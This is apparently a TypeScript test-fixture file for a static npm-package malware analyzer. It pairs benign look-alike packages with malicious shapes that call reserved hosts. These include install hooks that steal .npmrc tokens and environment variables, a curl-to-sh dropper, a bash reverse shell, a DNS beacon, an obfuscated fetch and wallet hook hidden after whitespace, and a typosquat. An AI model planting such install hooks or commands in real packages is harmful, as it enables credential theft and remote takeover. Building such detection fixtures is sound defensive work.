import type { FileSpec } from './make-tarball.js';

/**
 * Package shapes for tests: benign look-alikes from THREATS.md and the malicious classes it
 * describes. Malicious code only names reserved hosts (*.invalid, *.test) and never runs: these
 * files are only ever read by the static analyzer.
 */
export interface Scenario {
  name: string;
  version: string;
  files: Record<string, FileSpec>;
  packument: unknown;
}

export const NOW = new Date('2025-09-10T12:00:00Z');

function manifest(name: string, version: string, extra: Record<string, unknown>): string {
  return JSON.stringify({ name, version, license: 'MIT', ...extra }, null, 2);
}

/** A packument with an older version (same scripts unless given) and established history. */
function packumentFor(
  name: string,
  version: string,
  opts: {
    scripts?: Record<string, string>;
    previous?: string;
    previousScripts?: Record<string, string>;
    gypfile?: boolean;
    ageHours?: number;
  } = {},
): unknown {
  const previous = opts.previous ?? '1.0.0';
  const maintainers = [{ name: 'maintainer-one', email: 'one@example.test' }];
  const doc = (scripts: Record<string, string> | undefined) => ({
    scripts: scripts ?? {},
    ...(opts.gypfile ? { gypfile: true } : {}),
    maintainers,
    _npmUser: maintainers[0],
    dist: {},
  });
  const published = new Date(NOW.getTime() - (opts.ageHours ?? 24 * 30) * 3_600_000).toISOString();
  return {
    name,
    versions: { [previous]: doc(opts.previousScripts ?? opts.scripts), [version]: doc(opts.scripts) },
    time: { created: '2019-01-01T00:00:00Z', [previous]: '2024-01-01T00:00:00Z', [version]: published },
    maintainers,
  };
}

/** The registry's copy of a version carries the tarball's dependencies and bin, as npm publishes them. */
function withRegistryFields(packument: unknown, version: string, pkg: Record<string, unknown>): unknown {
  const doc = (packument as { versions: Record<string, Record<string, unknown>> }).versions[version];
  for (const field of ['dependencies', 'optionalDependencies', 'peerDependencies', 'bin'])
    if (doc && pkg[field] !== undefined) doc[field] = pkg[field];
  return packument;
}

function scenario(
  name: string,
  version: string,
  pkg: Record<string, unknown>,
  files: Record<string, FileSpec>,
  opts: Parameters<typeof packumentFor>[2] = {},
): Scenario {
  const scripts = (pkg.scripts ?? {}) as Record<string, string>;
  return {
    name,
    version,
    files: { 'package.json': manifest(name, version, pkg), ...files },
    packument: withRegistryFields(packumentFor(name, version, { scripts, ...opts }), version, pkg),
  };
}

// ---------------------------------------------------------------------------------------------
// Benign look-alikes
// ---------------------------------------------------------------------------------------------

export const esbuildLike = scenario(
  'esbuild-like',
  '0.25.1',
  { main: 'lib/main.js', scripts: { postinstall: 'node install.js' } },
  {
    'install.js': [
      "'use strict';",
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      "const https = require('https');",
      "const child_process = require('child_process');",
      "const { pkgAndSubpathForCurrentPlatform } = require('./lib/platform');",
      'function fetch(url) {',
      '  return new Promise((resolve, reject) => {',
      '    https.get(url, (res) => {',
      '      const chunks = [];',
      "      res.on('data', (c) => chunks.push(c)).on('end', () => resolve(Buffer.concat(chunks)));",
      "    }).on('error', reject);",
      '  });',
      '}',
      'async function downloadDirectlyFromNPM(pkg, subpath, binPath) {',
      '  const url = `https://registry.npmjs.org/${pkg}/-/${pkg.replace("@esbuild/", "")}-0.25.1.tgz`;',
      '  const buffer = await fetch(url);',
      '  fs.writeFileSync(binPath, buffer);',
      '}',
      'function validateBinaryVersion(...command) {',
      "  const stdout = child_process.execFileSync(command.shift(), command.concat('--version'), { stdio: 'pipe' });",
      "  if (stdout.toString().trim() !== '0.25.1') throw new Error('Expected 0.25.1');",
      '}',
      'const isYarn = (process.env.npm_config_user_agent || "").startsWith("yarn");',
      'const { pkg, subpath } = pkgAndSubpathForCurrentPlatform();',
      "validateBinaryVersion(path.join(__dirname, 'bin', 'esbuild'));",
    ].join('\n'),
    'lib/platform.js': [
      "const os = require('os');",
      'exports.pkgAndSubpathForCurrentPlatform = () => ({ pkg: `@esbuild/${process.platform}-${os.arch()}`, subpath: "bin/esbuild" });',
    ].join('\n'),
    'lib/main.js':
      "const { spawnSync } = require('child_process');\nexports.build = (opts) => spawnSync('esbuild', [JSON.stringify(opts)]);\n",
  },
  { previous: '0.25.0' },
);

export const coreJsLike = scenario(
  'core-js-like',
  '3.45.1',
  { main: 'index.js', scripts: { postinstall: 'node -e "try{require(\'./postinstall\')}catch(e){}"' } },
  {
    'postinstall.js': [
      'var env = process.env;',
      'var ADBLOCK = is(env.ADBLOCK);',
      'var COLOR = is(env.npm_config_color);',
      'var DISABLE_OPENCOLLECTIVE = is(env.DISABLE_OPENCOLLECTIVE);',
      "var SILENT = ['silent', 'error', 'warn'].indexOf(env.npm_config_loglevel) !== -1;",
      "var BANNER = '\\u001B[96mThank you for using core-js-like ( \\u001B[94m https://github.com/example/core-js-like \\u001B[96m) for polyfilling JavaScript standard library!\\u001B[0m\\n';",
      'function is(it) { return !!it && it !== "0" && it !== "false"; }',
      'if (!ADBLOCK && !DISABLE_OPENCOLLECTIVE && !SILENT) console.log(BANNER);',
    ].join('\n'),
    'index.js': "require('./modules/es.array.at');\nmodule.exports = require('./internals/path');\n",
    'modules/es.array.at.js':
      "var $ = require('../internals/export');\n$({ target: 'Array', proto: true }, { at: function at(index) { return this[index < 0 ? this.length + index : index]; } });\n",
    'internals/export.js':
      'module.exports = function (options, source) { Object.assign(globalThis[options.target].prototype, source); };\n',
    'internals/path.js': 'module.exports = globalThis;\n',
  },
);

export const nativeAddon = scenario(
  'native-addon-like',
  '5.1.1',
  { main: 'lib/index.js', gypfile: true },
  {
    'binding.gyp': "{ 'targets': [ { 'target_name': 'addon', 'sources': [ 'src/addon.cc' ] } ] }\n",
    'src/addon.cc': '#include <node_api.h>\nNAPI_MODULE_INIT() { return exports; }\n',
    'lib/index.js':
      "const binding = require('node-gyp-build')(require('path').join(__dirname, '..'));\nmodule.exports = binding;\n",
  },
  { gypfile: true },
);

export const prebuildLike = scenario(
  'prebuild-like',
  '0.34.2',
  { main: 'lib/index.js', scripts: { install: 'prebuild-install || node-gyp rebuild' } },
  {
    'binding.gyp': "{ 'targets': [ { 'target_name': 'img', 'sources': [ 'src/img.cc' ] } ] }\n",
    'lib/index.js': "module.exports = require('../build/Release/img.node');\n",
  },
  { previous: '0.34.1' },
);

export const huskyLike = scenario(
  'husky-like',
  '9.1.7',
  { main: 'index.js', bin: { 'husky-like': 'bin.js' }, scripts: { prepare: 'node bin.js install' } },
  {
    'bin.js':
      "#!/usr/bin/env node\nimport { install } from './index.js';\nconsole.log(install(process.argv[3]));\n",
    'index.js': [
      "import c from 'child_process';",
      "import f, { writeFileSync as w } from 'fs';",
      "import p from 'path';",
      "export function install(dir = '.husky') {",
      "  if (process.env.HUSKY === '0') return 'HUSKY=0 skip install';",
      "  const { status } = c.spawnSync('git', ['config', 'core.hooksPath', `${dir}/_`]);",
      "  f.mkdirSync(p.join(dir, '_'), { recursive: true });",
      "  w(p.join(dir, '_', 'pre-commit'), '#!/usr/bin/env sh\\n. \"$(dirname \"$0\")/h\"');",
      "  return status ? 'git command not found' : '';",
      '}',
    ].join('\n'),
  },
);

export const fetchPolyfill = scenario(
  'fetch-polyfill-like',
  '3.6.20',
  { main: 'dist/fetch.umd.js', browser: 'dist/fetch.umd.js' },
  {
    'dist/fetch.umd.js': [
      '(function (global, factory) { factory(exports); }(this, (function (exports) {',
      "  var g = (typeof globalThis !== 'undefined' && globalThis) || (typeof self !== 'undefined' && self) || {};",
      '  function fetch(input, init) { return new Promise(function (resolve, reject) { var xhr = new XMLHttpRequest(); xhr.open(init.method, input, true); xhr.send(init.body); }); }',
      '  fetch.polyfill = true;',
      '  if (!g.fetch) { self.fetch = fetch; }',
      '  exports.fetch = fetch;',
      '})));',
    ].join('\n'),
  },
);

export const BENIGN: Scenario[] = [esbuildLike, coreJsLike, nativeAddon, prebuildLike, huskyLike];

// ---------------------------------------------------------------------------------------------
// Malicious shapes
// ---------------------------------------------------------------------------------------------

const OBFUSCATED_HOOK = [
  'var _0x4f2a=["\\x65\\x74\\x68\\x65\\x72\\x65\\x75\\x6d\\x5f\\x72\\x65\\x71\\x75\\x65\\x73\\x74\\x5f\\x68\\x6f\\x6f\\x6b\\x65\\x64"];',
  'var _0x1b3c=function(_0x2d4e,_0x3f5a){return _0x4f2a[_0x2d4e-0x0];};',
  "if(typeof window!=='undefined'){var _0x5a6b=window.fetch;",
  'window.fetch=async function(..._0x6c7d){var _0x7e8f=await _0x5a6b(..._0x6c7d);return _0x7e8f;};',
  'var _0x9a0b=XMLHttpRequest.prototype.open;XMLHttpRequest.prototype.open=function(){return _0x9a0b.apply(this,arguments);};',
  'if(window.ethereum){var _0xab1c=window.ethereum.request;window.ethereum.request=function(_0xbc2d){return _0xab1c(_0xbc2d);};}}',
].join('');

export const chalkLike = scenario(
  'chalk-like',
  '5.6.1',
  { main: 'source/index.js', type: 'module', exports: './source/index.js' },
  {
    'source/index.js': [
      "import ansiStyles from './vendor/ansi-styles/index.js';",
      'const levelMapping = ["ansi", "ansi", "ansi256", "ansi16m"];',
      'const styles = Object.create(null);',
      ...Array.from({ length: 30 }, (_, i) => `styles.s${i} = { get() { return ansiStyles.color[${i}]; } };`),
      `export default styles;${' '.repeat(400)}${OBFUSCATED_HOOK}`,
    ].join('\n'),
    'source/vendor/ansi-styles/index.js': 'export default { color: [] };\n',
  },
  { previous: '5.6.0' },
);

export const shaiHuludLike = scenario(
  'worm-victim-like',
  '1.4.3',
  { main: 'index.js', scripts: { postinstall: 'node bundle.js' } },
  {
    'index.js': 'module.exports = function leftPad(s, n) { return String(s).padStart(n); };\n',
    'bundle.js': [
      "const https=require('https'),fs=require('fs'),os=require('os'),path=require('path');",
      "const npmrc=fs.readFileSync(path.join(os.homedir(),'.npmrc'),'utf8');",
      'const loot=JSON.stringify({env:process.env,npmrc});',
      "const req=https.request({hostname:'collector.invalid',path:'/x',method:'POST'});req.end(loot);",
    ].join('\n'),
  },
  { previous: '1.4.2', previousScripts: {} },
);

export const dropper = scenario(
  'dropper-like',
  '2.0.0',
  { scripts: { preinstall: 'curl -s http://payload.invalid/p.sh | sh' } },
  {
    'index.js': 'module.exports = {};\n',
  },
);

export const reverseShell = scenario(
  'revshell-like',
  '1.0.3',
  { scripts: { install: 'sh scripts/setup.sh' } },
  {
    'index.js': 'module.exports = {};\n',
    'scripts/setup.sh': '#!/bin/sh\necho setting up\nbash -i >& /dev/tcp/10.0.0.99/4444 0>&1\n',
  },
);

export const beacon = scenario(
  'internal-config-like',
  '99.0.0',
  { scripts: { preinstall: 'node beacon.js' } },
  {
    'index.js': 'module.exports = {};\n',
    'beacon.js': [
      "const dns = require('dns'); const os = require('os');",
      "const label = Buffer.from([os.hostname(), os.userInfo().username, process.cwd()].join('|')).toString('hex').slice(0, 60);",
      'dns.resolve(`${label}.beacon.invalid`, () => {});',
    ].join('\n'),
  },
);

export const importEnvDump = scenario(
  'env-at-import-like',
  '1.0.0',
  { main: 'index.js' },
  {
    'index.js': [
      "const https = require('https');",
      "https.request({ hostname: 'collector.invalid', method: 'POST' }).end(JSON.stringify(process.env));",
      'module.exports = {};',
    ].join('\n'),
  },
);

export const typosquatted = {
  ...scenario(
    'lodahs',
    '4.17.21',
    { main: 'index.js' },
    { 'index.js': 'module.exports = require("lodash");\n' },
  ),
  packument: {
    name: 'lodahs',
    versions: { '4.17.21': { scripts: {} } },
    time: { created: '2025-09-09T00:00:00Z', '4.17.21': '2025-09-09T00:00:00Z' },
  },
};

export const MALICIOUS: Scenario[] = [
  chalkLike,
  shaiHuludLike,
  dropper,
  reverseShell,
  beacon,
  importEnvDump,
  typosquatted,
];
